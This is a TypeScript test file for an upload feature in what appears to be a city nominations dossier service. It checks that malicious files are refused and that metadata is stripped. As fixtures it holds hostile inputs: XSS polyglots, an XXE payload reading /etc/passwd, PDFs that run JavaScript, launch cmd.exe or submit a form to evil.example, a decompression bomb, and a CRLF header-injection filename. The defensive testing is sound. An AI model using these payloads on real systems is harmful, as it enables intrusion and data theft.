import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { request as rawRequest } from 'node:http';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { draftFiles } from '../../src/nominations/dossier-pages.ts';
import { cleanContent } from '../../src/platform/file-content.ts';
import { type Ground, layGround, PDF, startFor } from '../nominations/ground.ts';
import { type Client, openStand, type Stand } from '../stand.ts';

let stand: Stand;
let ground: Ground;
let city: Client;
let dossier: string;
beforeAll(async () => {
  stand = await openStand({ env: { AWARD_BACKGROUND: 'off' } });
  ground = await layGround(stand);
  dossier = await startFor(stand, ground, 'Sønderborg', 'mette@city.invalid');
  city = await stand.as('mette@city.invalid');
});
afterAll(() => stand.close());

const path = (section: string) => `/en/nominations/${dossier}/sections/${section}`;
const send = (bytes: Buffer, name: string, contentType = 'application/pdf') =>
  city
    .upload(path('evidence'))
    .field('version', '0')
    .attach('evidence.files', bytes, { filename: name, contentType });
const kept = () => draftFiles(stand.service.db, dossier)['evidence.files'] ?? [];
const onDisk = async () => (await readdir(join(stand.service.config.dataDir, 'files'))).length;
const waiting = async () => (await readdir(stand.service.files.incoming)).length;

const pdf = (body: string) => Buffer.from(`%PDF-1.7\n${body}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1');
const packed = (objects: string) => {
  const stream = deflateSync(Buffer.from(objects)).toString('latin1');
  return pdf(
    `5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${stream.length}>>stream\n${stream}\nendstream endobj`,
  );
};

/** A part of a PNG; its checksum is not looked at here. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)]);
}
function png(width: number, height: number, ...more: Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc(4)));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    ...more,
    pixels,
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function segment(marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
}
/** A photograph as a phone takes it: turned, with the place in EXIF, XMP, IPTC, and a film behind its end. */
function photograph(): Buffer {
  const entry = (tag: number, type: number, value: number) => {
    const one = Buffer.alloc(12);
    one.writeUInt16LE(tag, 0);
    one.writeUInt16LE(type, 2);
    one.writeUInt32LE(1, 4);
    one.writeUInt32LE(value, 8);
    return one;
  };
  const exif = Buffer.concat([
    Buffer.from('Exif\0\0II*\0\x08\0\0\0\x02\0', 'latin1'),
    entry(0x0112, 3, 6),
    entry(0x8825, 4, 38),
    Buffer.from('\0\0\0\0GPS-54.9-9.8'),
  ]);
  const frame = Buffer.from([8, 0x0b, 0xb8, 0x0f, 0xa0, 1, 1, 0x11, 0]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1')),
    segment(0xe1, exif),
    segment(0xe1, Buffer.from('http://ns.adobe.com/xap/1.0/\0<x GPS-54.9-9.8/>')),
    segment(0xed, Buffer.from('Photoshop 3.0\0GPS-54.9-9.8')),
    segment(0xc0, frame),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    Buffer.from('pixels'),
    Buffer.from([0xff, 0xd9]),
    Buffer.from('ftypmp42 GPS-54.9-9.8'),
  ]);
}

describe('a file that would do harm', () => {
  const HARMFUL: [string, Buffer, string][] = [
    [
      'an SVG with a script',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'image.svg',
    ],
    ['a page that calls itself a PDF', Buffer.from('<!doctype html><script>alert(1)</script>'), 'letter.pdf'],
    ['a GIF that is a script too', Buffer.from('GIF89a/*\0\0*/=1;alert(1)'), 'picture.gif'],
    ['a page declared as a PNG', Buffer.from('<html>%PDF-1.4</html>'), 'picture.png'],
    ['a zip', Buffer.from('504b0506000000000000000000000000000000000000', 'hex'), 'bundle.zip'],
    ['a zip that calls itself a PDF', Buffer.from('504b0304140000000800', 'hex'), 'bundle.pdf'],
    [
      'an XML with an external entity',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
      'data.xml',
    ],
    [
      'a PDF with a script',
      pdf('1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
      'a.pdf',
    ],
    [
      'a PDF with a script under a written-out name',
      pdf('1 0 obj<</OpenAction<</S/J#61vaScript/JS(1)>>>>endobj'),
      'b.pdf',
    ],
    ['a PDF with a script in packed objects', packed('1 0 <</S/JavaScript/JS(app.alert(1))>>'), 'c.pdf'],
    ['a PDF that starts a program', pdf('1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'), 'd.pdf'],
    [
      'a PDF that carries a file',
      pdf('1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>endobj'),
      'e.pdf',
    ],
    [
      'a PDF that sends a form away',
      pdf('1 0 obj<</AA<</O<</S/SubmitForm/F(http://evil.example)>>>>>>endobj'),
      'f.pdf',
    ],
    [
      'a PDF whose packed objects cannot be unpacked',
      pdf('5 0 obj<</Type/ObjStm/Length 4>>stream\nabcd\nendstream endobj'),
      'g.pdf',
    ],
    ['a PNG that claims 50,000 by 50,000', png(50_000, 50_000), 'h.png'],
  ];

  it.each(HARMFUL)(
    '%s is refused with what to do, and nothing of it stays [UP-01, UP-03, UP-04, UP-05, UP-07, UP-08, IN-12]',
    async (_what, bytes, name) => {
      const [before, disk] = [kept().length, await onDisk()];
      const answer = await send(bytes, name, name.endsWith('png') ? 'image/png' : 'application/pdf');
      expect(answer.status).toBe(422);
      expect(answer.text).toMatch(/Save it as a PDF|Save the PDF anew|Send a smaller picture/);
      expect([kept().length, await onDisk()]).toEqual([before, disk]);
      await expect.poll(waiting).toBe(0);
    },
  );

  it('a PDF whose packed objects unfold a thousand times is given up, not unfolded [UP-03]', () => {
    const bomb = packed(' '.repeat(60_000_000));
    expect(bomb.length).toBeLessThan(100_000);
    const begun = process.memoryUsage().arrayBuffers;
    expect(cleanContent(bomb, 'application/pdf')).toBe('active');
    expect(process.memoryUsage().arrayBuffers - begun).toBeLessThan(50_000_000);
  });
});

describe('a file that is kept', () => {
  it('plain PDFs and pictures pass', async () => {
    for (const [bytes, name] of [
      [PDF, 'plain.pdf'],
      [packed('1 0 <</Type/Catalog>>'), 'packed.pdf'],
      [png(10, 10), 'ten.png'],
    ] as const)
      expect((await send(bytes, name)).status).toBe(303);
  });

  it('a photograph loses the place where it was taken and the film behind its end, and keeps how it is turned [UP-09]', async () => {
    const taken = photograph();
    expect(taken.toString('latin1').split('GPS').length - 1).toBe(4);
    await send(taken, 'photo.jpg', 'image/jpeg').expect(303);
    const file = kept().find(({ name }) => name === 'photo.jpg');
    const served = await city.get(`/en/nominations/${dossier}/files/${file?.id}`).buffer();
    const bytes = Buffer.from(served.body as Uint8Array);
    expect(bytes.includes('GPS')).toBe(false);
    expect(bytes.includes('ftypmp42')).toBe(false);
    expect(bytes.includes('pixels')).toBe(true);
    // The one entry that is left, orientation 6: turned a quarter to the right.
    expect(bytes.includes(Buffer.from('0112000300000001000600', 'hex'))).toBe(true);
  });

  it('a PNG loses its words, date and place [UP-09]', async () => {
    const bytes = png(
      12,
      12,
      chunk('tEXt', Buffer.from('Author\0GPS canary')),
      chunk('eXIf', Buffer.from('GPS canary')),
      chunk('iTXt', Buffer.from('XML:com.adobe.xmp\0GPS canary')),
    );
    const clean = cleanContent(bytes, 'image/png');
    expect(Buffer.isBuffer(clean) && clean.equals(png(12, 12))).toBe(true);
  });

  it('is served as an attachment that is sandboxed and guessed by no browser [UP-01]', async () => {
    const [file] = kept();
    const { headers } = await city.get(`/en/nominations/${dossier}/files/${file?.id}`);
    expect(headers['content-disposition']).toMatch(/^attachment/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['content-security-policy']).toContain('sandbox');
    expect(headers['cache-control']).toBe('no-store');
  });

  it('its id stands for the same bytes for ever, and its name cannot leave the header [UP-11, IN-10]', async () => {
    const name = 'plan"\r\nSet-Cookie: x=1;é.pdf';
    const [file] = kept();
    const row = stand.service.db.$client
      .prepare(
        'SELECT files.* FROM nomination_files JOIN files ON files.id = file_id WHERE nomination_files.id = ?',
      )
      .get(file?.id) as {
      stored_name: string;
      sha256: string;
    };
    const bytes = await readFile(stand.service.files.pathOf(row.stored_name));
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(row.sha256);
    expect(() =>
      stand.service.db.$client
        .prepare("UPDATE files SET sha256 = 'x' WHERE stored_name = ?")
        .run(row.stored_name),
    ).toThrow();
    await city.post(path('evidence'), { version: '0', remove: file?.id ?? '' });
    await send(Buffer.concat([PDF, Buffer.from('%2')]), name);
    const strange = kept().at(-1);
    const { headers } = await city.get(`/en/nominations/${dossier}/files/${strange?.id}`);
    expect(headers['set-cookie']).toBeUndefined();
    expect(headers['content-disposition']).not.toMatch(/[\r\n]/);
  });
});

describe('an upload', () => {
  it('of nobody is not read: the answer comes while all but one byte is still to be sent [UP-17]', async () => {
    const { port } = new URL(stand.origin);
    const headers = {
      'sec-fetch-site': 'same-origin',
      'content-type': 'multipart/form-data; boundary=x',
      'content-length': '20000000',
    };
    const answered = await new Promise<[number | undefined, string | undefined]>((resolve, reject) => {
      const sending = rawRequest(
        { port, host: '127.0.0.1', method: 'POST', path: path('evidence'), headers },
        (answer) => {
          resolve([answer.statusCode, answer.headers.location]);
          sending.destroy();
        },
      );
      sending.on('error', reject);
      sending.write('-');
    });
    expect(answered).toEqual([303, '/en/sign-in']);
  });

  it('forty at once pass no limit, and one that is cut off leaves nothing behind [UP-12]', async () => {
    const limit = ground.edition.definition.sections
      .flatMap(({ questions }) => questions)
      .find(({ id }) => id === 'evidence.files');
    const most = limit?.kind === 'file' ? limit.maxFiles : 0;
    await Promise.all(
      Array.from({ length: 40 }, (_, index) =>
        send(Buffer.concat([PDF, Buffer.from(`%n${index}`)]), `n${index}.pdf`),
      ),
    );
    expect(kept()).toHaveLength(most);
    const cut = fetch(`${stand.origin}${path('evidence')}`, {
      method: 'POST',
      headers: {
        cookie: city.cookie,
        'sec-fetch-site': 'same-origin',
        'content-type': 'multipart/form-data; boundary=x',
      },
      body: '--x\r\nContent-Disposition: form-data; name="evidence.files"; filename="a.pdf"\r\n\r\n%PDF-1.4 cut',
    });
    expect((await cut).status).toBe(400);
    await expect.poll(waiting).toBe(0);
  });
});
